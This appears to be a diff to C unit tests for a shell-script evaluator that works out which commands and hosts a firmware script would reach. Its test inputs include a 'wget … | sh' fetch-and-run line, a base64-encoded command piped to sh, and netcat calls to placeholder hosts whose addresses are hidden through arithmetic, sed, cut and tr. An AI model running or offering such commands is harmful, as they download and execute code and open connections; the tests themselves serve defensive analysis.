@@ -63,6 +63,23 @@ static const struct {
 	{ "set -- a b; c $1 $2; shift; d $1", "[set][--][a][b];[c][a][b];[shift];[d][b];" },
 	{ "read A <<E\nx y\nE\nb $A", "[read][A]<<x y\n;[b][x][y];" },
 	{ "echo done; if x; then y; fi", "[echo][done];[x];?[y];" },
+	/* sums */
+	{ "A=3; nc 203.0.113.$((A + 2)) $((0x200 + $A * (4 - 1) % 5))", "[nc][203.0.113.5][516];" },
+	{ "c $((1 << 4 | 1)) $((-7 / 2)) $((!0 + ~0)) $((2 < 3 && 3 >= 4 || 1 == 1))", "[c][17][-3][0][1];" },
+	{ "c $((X + 1)) $((1 / 0)) $((1 +)) $(((2)) $((A = 1))", "[c][{$((X + 1))}][{$((1 / 0))}][{$((1 +))}][{$(((2)) $((A = 1))}];" },
+	/* filters: in a substitution, in front of a loop, in front of a shell; what is not known stays open */
+	{ "X=$(echo 203_0_113_5 | tr _ .)\nnc $X", "[echo][203_0_113_5];|[tr][_][.];[nc][203.0.113.5];" },
+	{ "nc $(echo h:203.0.113.5:9 | cut -d: -f2 | sed 's/\\.5$/.6/')",
+	  "[echo][h:203.0.113.5:9];|[cut][-d:][-f2];|[sed][s/\\.5$/.6/];[nc][203.0.113.6];" },
+	{ "a $(printf '%s.%s\\n' x y | rev) $(echo \"k = v\" | awk '{print $3}')", "[printf][%s.%s\\n][x][y];|[rev];[echo][k = v];|[awk][{print $3}];[a][y.x][v];" },
+	{ "a $(echo x | sort) $(echo x | sed 's/.*/y/') $(nc h | tr a b)",
+	  "[echo][x];|[sort];[echo][x];|[sed][s/.*/y/];[nc][h];|[tr][a][b];[a][{$(echo x | sort)}][{$(echo x | sed 's/.*/y/')}][{$(nc h | tr a b)}];" },
+	{ "echo dGVsbmV0ZA== | base64 -d | sh; b", "[echo][dGVsbmV0ZA==];|[base64][-d];|[sh];[telnetd];[b];" },
+	{ "wget -O- h | sh", "[wget][-O-][h];|[sh];" },
+	{ "echo 'a 1\nb 2' | tr -d x", "[echo][a 1\nb 2];|[tr][-d][x];" },
+	{ "while read -r H P; do nc $H $P; done <<E\nh1 1\n# c\nh2 2 3\nE\nz", "[nc][h1][1];[nc][h2][2][3];[z];" },
+	{ "printf 'a:b\\nc:d\\n' | while IFS=: read X Y; do c $Y $X; done", "[printf][a:b\\nc:d\\n];[c][b][a];[c][d][c];" },
+	{ "while read X; do c $X; done < /none", "[read][X];?[c][{$X}];</none;" },
 };
 
 static void reads_what_a_shell_would(void **state)
@@ -97,6 +114,14 @@ static bool key_of(const void *ctx, struct span key, struct span *value)
 	return span_is(key, "server");
 }
 
+static unsigned match_of(const void *ctx, struct span pattern, struct arena *a, struct span *out, unsigned most)
+{
+	(void)ctx;
+	(void)a;
+	*out = SPAN_LIT("/etc/app.conf");
+	return most && span_is(pattern, "/etc/*.conf");
+}
+
 /* What a file that is sourced sets may be set otherwise; functions of a library are code; what is not there changes all. */
 static const struct {
 	const char *text, *want;
@@ -107,12 +132,16 @@ static const struct {
 	{ ". /loop", "[.][/loop];" },
 	{ "nc $(cat /etc/app.conf)", "[cat][/etc/app.conf];[nc][S=203.0.113.5]~;" },
 	{ "S=$(nvram get server)\nnc $S", "[nvram][get][server];[nc][192.0.2.1]~;" },
+	{ "while IFS== read K V; do nc $V; done < /etc/app.conf", "[nc][203.0.113.5]~;" },
+	{ "nc $(grep ^S= /etc/app.conf | cut -d= -f2)", "[grep][^S=][/etc/app.conf];|[cut][-d=][-f2];[nc][203.0.113.5]~;" },
+	{ "nc $(sed s/S=// </etc/app.conf)", "[sed][s/S=//]</etc/app.conf;[nc][203.0.113.5]~;" },
+	{ "for f in /etc/*.conf \"/etc/*.x\" /no/*; do a $f; done", "[a][/etc/app.conf];[a][/etc/*.x];[a][/no/*];" },
 	{ "S=$(nvram get other)\nnc $S", "[nvram][get][other];[nc][{$(nvram get other)}];" },
 };
 
 static void asks_the_image_it_lies_in(void **state)
 {
-	const struct shell_world world = { .file = file_of, .key = key_of };
+	const struct shell_world world = { .file = file_of, .key = key_of, .match = match_of };
 	struct arena a;
 	(void)state;
 	arena_init(&a, 16 << 20);
